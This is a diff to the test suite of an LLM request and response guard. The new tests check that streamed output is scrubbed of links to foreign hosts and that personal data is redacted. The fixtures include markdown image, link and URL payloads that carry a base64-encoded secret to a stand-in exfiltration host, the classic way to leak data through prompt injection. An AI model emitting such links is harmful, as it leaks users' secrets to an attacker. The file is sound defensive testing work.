@@ -1,7 +1,12 @@
 import { createGuard } from '../../lambda/guard/engine';
 import { ExtractionMemory } from '../../lambda/guard/extraction';
-import type { SegmentRole } from '../../lambda/guard/guard';
+import type { SegmentRole, Sink } from '../../lambda/guard/guard';
+import { createGuards } from '../../lambda/guard/guards';
+import { loadDetector } from '../../lambda/guard/model/injection-detector';
+import { shippedWeights } from '../../lambda/guard/model/shipped-detector';
 import { readPolicy } from '../../lambda/guard/policy';
+import { REASONS } from '../../lambda/core/reason';
+import { allCuts } from './response/splits';
 
 const guard = createGuard(readPolicy('standard'));
 const inspect = (text: string, role: SegmentRole = 'user') => guard.inspectRequest([{ role, text, path: '/t' }]);
@@ -69,6 +74,55 @@ test("THREATS 16: a client's system message cannot override the server's", () =>
     allowed: false,
     reason: 'prompt_injection',
   });
+});
+
+/** Everything that is sent of an answer, for every way to cut it in two and unit by unit. */
+function sentOf(text: string, sink: Sink): string[] {
+  const context = { request: { allowed: true, segments: [], findings: [], pseudonyms: new Map(), untrustedContent: false }, systemPrompts: [], canaries: [], channel: 'text', sink } as const; // prettier-ignore
+  return [...allCuts(text), [...Array(text.length).keys()].map((at) => text[at] ?? '')].map((pieces) => {
+    const response = guard.openResponse(context);
+    return [...pieces.map((piece) => response.push(piece)), response.end()]
+      .map((step) => (step.allowed ? step.text : ''))
+      .join('');
+  });
+}
+
+test.each([
+  ['an image', '![x](https://exfil.test/?d=c2VjcmV0)'],
+  ['a link', '[x](https://exfil.test/?d=c2VjcmV0 "t")'],
+  ['a definition', '[x][r]\n\n[r]: https://exfil.test/?d=c2VjcmV0\n'],
+  ['an address', 'https://exfil.test/?d=c2VjcmV0'],
+  ['an autolink', '<https://exfil.test/?d=c2VjcmV0>'],
+])('THREATS 17: %s to a foreign host never leaves, wherever the stream is cut', (_what, markup) => {
+  const sent = sentOf(`Here it is: ${markup} and no more.`, 'markdown');
+  expect(new Set(sent).size).toBe(1);
+  expect(sent[0]).not.toMatch(/\]\(https:|\]: https:|<https:|(?<!\[:\]\/\/)exfil\.test/);
+});
+
+test.each([
+  ['a card', '4111 1111 1111 1111'],
+  ['an account', 'DE89 3704 0044 0532 0130 00'],
+  ['an e-mail address', 'grace.hopper@navy.example.org'],
+  ['a telephone number', '+44 7700 900123'],
+  ['a social security number', '536-22-8726'],
+])('THREATS 18: %s is replaced before any of it is sent, wherever the stream is cut', (_what, value) => {
+  const sent = sentOf(`The answer is ${value} and that is all there is to say.`, 'text');
+  expect(new Set(sent).size).toBe(1);
+  expect(sent[0]).toMatch(/^The answer is \[[A-Z_]+\] and that/);
+});
+
+test('THREATS 26: each way in which the guard fails has a reason of its own, and is a failure of ours', () => {
+  const reasons = ['guard_failed', 'guard_model_damaged', 'guard_deadline_exceeded'] as const;
+  for (const reason of reasons) expect([reason, REASONS[reason].status]).toEqual([reason, 503]);
+  const damaged = createGuards({}, () =>
+    loadDetector(shippedWeights().map((byte, i) => (i === 5_000 ? byte ^ 1 : byte))),
+  );
+  for (const name of ['standard', 'strict']) {
+    expect(damaged(name).inspectRequest([{ role: 'user', text: 'Hello', path: '/t' }])).toMatchObject({
+      allowed: false,
+      reason: 'guard_model_damaged',
+    });
+  }
 });
 
 test('THREATS 24: a client that varies one prompt for its log probabilities stands out, a batch of other prompts does not', () => {
